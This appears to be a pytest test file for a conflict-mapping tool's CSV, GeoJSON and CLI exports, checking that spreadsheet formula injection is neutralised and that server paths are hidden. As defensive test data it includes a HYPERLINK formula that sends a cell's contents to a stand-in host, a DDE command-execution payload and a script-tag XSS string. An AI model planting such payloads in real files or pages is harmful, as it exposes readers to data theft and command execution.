"""Exports: CSV that a spreadsheet cannot turn into formulas, RFC 7946 GeoJSON, and the CLI."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seedcorpus import seed_folder
from warlens import cli
from warlens.export import (
    EXPORT_CLAIM_COLUMNS,
    EXPORT_EVENT_COLUMNS,
    SKIPPED_MEMBER,
    claims_to_geojson,
    events_to_geojson,
    geojson_bytes,
    neutralise_cell,
    relative_files,
    to_csv,
)
from warlens.model import CLAIM_COLUMNS, EVENT_COLUMNS, Col

DATA = seed_folder()  # the seed article alone
BAKHMUT = {Col.PLACE_NAME: "Bakhmut", Col.COUNTRY: "UA", Col.COUNTRY_NAME: "Ukraine",
           Col.LAT: 48.59419, Col.LON: 37.99886, Col.PRECISION: "settlement"}
#: OWASP's list, spelt out here so that a change to the module's own list cannot hide.
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(1)",
            "\t=1", "\r=1"]


def _table(rows: list[dict[str, Any]], columns: list[str]) -> pd.DataFrame:
    """A resolved table as corpus builds it: every column, the same column types."""
    frame = pd.DataFrame(rows, columns=columns)
    for col in (Col.START, Col.END):
        frame[col] = pd.to_datetime(frame[col])
    for col in (Col.LAT, Col.LON):
        frame[col] = pd.to_numeric(frame[col]).astype("float64")
    for col in set(columns) & {Col.LINE, Col.N_CLAIMS, Col.SPAN_START, Col.SPAN_END}:
        frame[col] = pd.to_numeric(frame[col]).astype("Int64")
    for col in (Col.CONTESTED, Col.DRAFT):
        frame[col] = frame[col].eq(True)
    return frame


def _event(n: int, **fields: Any) -> dict[str, Any]:
    return {Col.KEY: f"a/e{n}", Col.ARTICLE: "a", Col.ID: f"e{n}", Col.SUMMARY: f"event {n}",
            Col.TYPE: "battle", Col.START: "2023-05-20", Col.END: "2023-05-21",
            Col.DATE_PRECISION: "range", Col.DATE_LABEL: "20-21 May 2023",
            Col.QUOTE: "It happened.", Col.N_CLAIMS: 0, Col.FILE: "a.yaml", Col.LINE: 10 + n,
            **BAKHMUT, **fields}


def events(*rows: dict[str, Any]) -> pd.DataFrame:
    """An events table from `_event` rows."""
    return _table(list(rows), EVENT_COLUMNS)


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _strict_json(data: bytes) -> Any:
    def no_constants(name: str) -> Any:
        raise AssertionError(f"{name} is not JSON")
    return json.loads(data.decode("utf-8"), parse_constant=no_constants)


def _number(value: object) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool) and math.isfinite(value)


def assert_rfc7946(doc: Any) -> None:
    """A strict check of the RFC 7946 structure of a FeatureCollection of Points."""
    assert isinstance(doc, dict)
    assert doc["type"] == "FeatureCollection"
    assert isinstance(doc["features"], list)
    assert "crs" not in doc  # removed by RFC 7946 §4
    assert not {"geometry", "properties", "coordinates"} & set(doc)  # §7.1
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert set(feature) <= {"type", "id", "geometry", "properties", "bbox"}
        assert "id" not in feature or isinstance(feature["id"], str) or _number(feature["id"])
        geometry = feature["geometry"]
        assert set(geometry) == {"type", "coordinates"}
        assert geometry["type"] == "Point"
        lon, lat = geometry["coordinates"]
        assert _number(lon) and -180 <= lon <= 180
        assert _number(lat) and -90 <= lat <= 90
        assert round(lon, 6) == lon and round(lat, 6) == lat
        assert feature["properties"] is None or isinstance(feature["properties"], dict)


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_leading_cell_is_prefixed_with_a_single_quote(formula: str) -> None:
    assert neutralise_cell(formula) == "'" + formula


@pytest.mark.parametrize("value", [" =1", "  @SUM(1)", "\u00a0-1"])
def test_a_formula_after_leading_blanks_is_neutralised_too(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Bakhmut", "a=b", "'quoted", "", "5% of the city", "1-2"])
def test_ordinary_text_is_left_as_written(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-1, -1.5, 0, True, None, pd.Timestamp("2023-05-20")])
def test_values_that_are_not_text_pass_through(value: object) -> None:
    assert neutralise_cell(value) is value


def test_every_formula_leading_cell_is_neutralised_and_a_negative_number_column_stays_numeric(
) -> None:
    table = events(*(_event(n, **{Col.SUMMARY: f, Col.ACTORS: f, Col.QUOTE: f,
                                  Col.LAT: -33.9 - n, Col.LON: -70.6})
                     for n, f in enumerate(FORMULAS)))
    data = to_csv(table, EXPORT_EVENT_COLUMNS)
    rows = _csv_rows(data)
    assert [r[Col.SUMMARY] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[Col.ACTORS] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[Col.QUOTE] for r in rows] == ["'" + f for f in FORMULAS]
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(back[Col.LAT])
    assert back[Col.LAT].tolist() == pytest.approx([-33.9 - n for n in range(len(FORMULAS))])
    assert (back[Col.LON] == -70.6).all()


def test_a_quote_with_commas_quotes_and_newlines_round_trips_through_pandas() -> None:
    quote = 'He said, "the city is ours",\nand then: \'no\'.\r\nEnd, "really".'
    data = to_csv(events(_event(1, **{Col.QUOTE: quote})), EXPORT_EVENT_COLUMNS)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert back.loc[0, Col.QUOTE] == quote
    assert list(back.columns) == EXPORT_EVENT_COLUMNS


def test_the_csv_is_excel_friendly_utf8_with_a_bom_crlf_rows_and_iso_days() -> None:
    table = events(_event(1, **{Col.SUMMARY: "Бахмут", Col.END: None}))
    data = to_csv(table, EXPORT_EVENT_COLUMNS)
    assert data.startswith(b"\xef\xbb\xbfkey,article,")
    assert data.endswith(b"\r\n")
    row = _csv_rows(data)[0]
    assert row[Col.SUMMARY] == "Бахмут"
    assert (row[Col.START], row[Col.END]) == ("2023-05-20", "")
    assert row[Col.LINE] == "11"


def test_claims_export_with_their_own_columns() -> None:
    claim = {Col.KEY: "a/c1", Col.ARTICLE: "a", Col.CLAIMANT: "=cmd|' /C calc'!A0",
             Col.STANCE: "denies", Col.CLAIM: "Bakhmut has not fallen", Col.QUOTE: "No.",
             Col.VERDICT: "unverified", Col.LINE: 3, **BAKHMUT}
    rows = _csv_rows(to_csv(_table([claim], CLAIM_COLUMNS), EXPORT_CLAIM_COLUMNS))
    assert list(rows[0]) == EXPORT_CLAIM_COLUMNS
    assert rows[0][Col.CLAIMANT] == "'=cmd|' /C calc'!A0"


#: Text, and text built to start like a formula: blanks, then a trigger, then anything.
_TEXT = st.one_of(
    st.text(),
    st.builds(lambda blanks, lead, rest: blanks + lead + rest,
              st.text(alphabet=" \t\r\n\u00a0\u3000", max_size=3),
              st.sampled_from([*OWASP_TRIGGERS, "\n", "\0", "'", "a"]), st.text()),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_TEXT, _TEXT), min_size=1, max_size=5))
def test_no_csv_cell_starts_with_a_formula_character_whatever_the_text(
    cells: list[tuple[str, str]],
) -> None:
    table = pd.DataFrame(cells, columns=[Col.SUMMARY, Col.QUOTE])
    rows = _csv_rows(to_csv(table, [Col.SUMMARY, Col.QUOTE]))
    assert len(rows) == len(cells)
    for row, (summary, quote) in zip(rows, cells, strict=True):
        for cell, original in ((row[Col.SUMMARY], summary), (row[Col.QUOTE], quote)):
            assert not cell.startswith(OWASP_TRIGGERS)
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
            assert cell in (original, "'" + original)  # nothing else about the text changes


# --- GeoJSON ------------------------------------------------------------------------------------


def test_geojson_coordinates_are_longitude_then_latitude() -> None:
    doc = events_to_geojson(events(_event(1)))
    lon, lat = doc["features"][0]["geometry"]["coordinates"]
    assert lon == pytest.approx(38.0, abs=0.01)
    assert lat == pytest.approx(48.6, abs=0.01)


def test_geojson_has_no_nan_anywhere_and_missing_values_are_null() -> None:
    table = events(_event(1, **{Col.END: None, Col.COUNTRY: None, Col.N_CLAIMS: None,
                                Col.LINE: None}))
    doc = _strict_json(geojson_bytes(table))
    properties = doc["features"][0]["properties"]
    assert properties[Col.END] is None
    assert properties[Col.COUNTRY] is None
    assert properties[Col.N_CLAIMS] is None
    assert properties[Col.START] == "2023-05-20"
    assert properties[Col.CONTESTED] is False
    assert Col.LAT not in properties and Col.LON not in properties  # they are the geometry


def test_events_without_coordinates_are_left_out_and_counted() -> None:
    table = events(_event(1), _event(2, **{Col.LAT: None, Col.LON: None}))
    doc = events_to_geojson(table)
    assert [f["id"] for f in doc["features"]] == ["a/e1"]
    assert doc[SKIPPED_MEMBER] == 1


def test_geojson_passes_a_strict_rfc_7946_check() -> None:
    table = events(_event(1), _event(2, **{Col.LAT: -33.123456789, Col.LON: 151.987654321}),
                   _event(3, **{Col.LAT: None, Col.LON: None}))
    doc = _strict_json(geojson_bytes(table))
    assert_rfc7946(doc)
    assert doc["features"][1]["geometry"]["coordinates"] == [151.987654, -33.123457]


def test_a_script_summary_stays_a_plain_string() -> None:
    script = "<script>alert('x')</script>"
    doc = _strict_json(geojson_bytes(events(_event(1, **{Col.SUMMARY: script}))))
    assert doc["features"][0]["properties"][Col.SUMMARY] == script


def test_claims_make_geojson_points_at_their_place() -> None:
    claim = {Col.KEY: "a/c1", Col.ARTICLE: "a", Col.CLAIMANT: "Wagner", Col.STANCE: "asserts",
             Col.CLAIM: "Bakhmut is taken", Col.QUOTE: "Taken.", **BAKHMUT}
    doc = claims_to_geojson(_table([claim], CLAIM_COLUMNS))
    assert_rfc7946(doc)
    assert doc["features"][0]["properties"][Col.CLAIMANT] == "Wagner"


# --- the `warlens export` command ---------------------------------------------------------------


def test_the_cli_with_place_bakhmut_writes_only_bakhmut_events(tmp_path: Path) -> None:
    out = tmp_path / "bakhmut.csv"
    assert cli.main(["export", "--place", "Bakhmut", str(DATA), "-o", str(out)]) == 0
    rows = _csv_rows(out.read_bytes())
    assert rows
    assert {r[Col.PLACE_NAME] for r in rows} == {"Bakhmut"}


def test_the_cli_place_filter_leaves_out_events_elsewhere(tmp_path: Path) -> None:
    everything, bakhmut = tmp_path / "all.csv", tmp_path / "bakhmut.csv"
    assert cli.main(["export", str(DATA), "-o", str(everything)]) == 0
    assert cli.main(["export", "--place", "bakhmut", str(DATA), "-o", str(bakhmut)]) == 0
    places = {r[Col.PLACE_NAME] for r in _csv_rows(everything.read_bytes())}
    assert places - {"Bakhmut"}, "the seed data should hold events outside Bakhmut"
    assert len(_csv_rows(bakhmut.read_bytes())) < len(_csv_rows(everything.read_bytes()))


def test_an_unknown_article_exits_2_naming_it_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "out.csv"
    code = cli.main(["export", "--article", "no-such-article", str(DATA), "-o", str(out)])
    assert code == 2
    assert "no-such-article" in capsys.readouterr().err
    assert not out.exists()


def test_a_date_that_is_not_a_date_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    code = cli.main(["export", "--from", "last May", str(DATA), "-o", str(tmp_path / "o.csv")])
    assert code == 2
    assert "last May" in capsys.readouterr().err


def test_output_dash_writes_to_stdout_and_the_count_to_stderr(
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    assert cli.main(["export", "--format", "geojson", str(DATA), "-o", "-"]) == 0
    captured = capsysbinary.readouterr()
    doc = _strict_json(captured.out)
    assert_rfc7946(doc)
    assert doc["features"]
    assert captured.err.decode().startswith(f"wrote {len(doc['features'])} events to stdout")


def test_claims_geojson_from_the_cli_sits_at_the_claims_places(
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    code = cli.main(["export", "--table", "claims", "--format", "geojson", "--stance", "denies",
                     str(DATA), "-o", "-"])
    assert code == 0
    doc = _strict_json(capsysbinary.readouterr().out)
    assert_rfc7946(doc)
    assert {f["properties"][Col.STANCE] for f in doc["features"]} == {"denies"}


def test_a_missing_data_folder_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    code = cli.main(["export", str(tmp_path / "nowhere"), "-o", str(tmp_path / "o.csv")])
    assert code == 2
    assert "nowhere" in capsys.readouterr().err


# --- file names: relative to the data folder, never the server's paths ---------------------------


@pytest.fixture
def nested_data(tmp_path: Path) -> Path:
    """The bundled articles in a sub-folder of a data folder at an absolute path."""
    folder = tmp_path / "server-secret-path" / "data"
    (folder / "ukraine").mkdir(parents=True)
    for source in DATA.glob("*.yaml"):
        (folder / "ukraine" / source.name).write_bytes(source.read_bytes())
    return folder


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
@pytest.mark.parametrize("table", ["events", "claims"])
def test_the_cli_export_names_files_relative_to_the_data_folder(
    nested_data: Path, tmp_path: Path, fmt: str, table: str
) -> None:
    out = tmp_path / f"out.{fmt}"
    assert cli.main(["export", "--table", table, "--format", fmt, str(nested_data),
                     "-o", str(out)]) == 0
    payload = out.read_bytes().decode("utf-8-sig")
    assert "server-secret-path" not in payload and str(tmp_path) not in payload
    if fmt == "csv":
        files = {r[Col.FILE] for r in _csv_rows(out.read_bytes())}
    else:
        files = {f["properties"][Col.FILE] for f in json.loads(payload)["features"]}
    assert files and all(f.startswith("ukraine/") and f.endswith(".yaml") for f in files)


def test_the_app_exports_name_files_relative_to_the_data_folder(nested_data: Path) -> None:
    from warlens.workspace import load_corpus

    corpus = load_corpus(nested_data, cache=False)
    csv_files = {r[Col.FILE] for r in _csv_rows(
        to_csv(corpus.events, EXPORT_EVENT_COLUMNS, corpus.sources))}
    geo = json.loads(geojson_bytes(corpus.events, corpus.sources))
    geo_files = {f["properties"][Col.FILE] for f in geo["features"]}
    assert csv_files and csv_files == geo_files
    assert all(f.startswith("ukraine/") for f in csv_files)


def test_a_file_outside_every_data_folder_is_named_by_its_base_name_only() -> None:
    files = pd.Series(["/srv/warlens/data/a.yaml", "/elsewhere/b.yaml", "upload: c.yaml"])
    assert relative_files(files, ["/srv/warlens/data"]).tolist() == [
        "a.yaml", "b.yaml", "upload: c.yaml"]
    assert relative_files(files, []).tolist()[:2] == ["a.yaml", "b.yaml"]
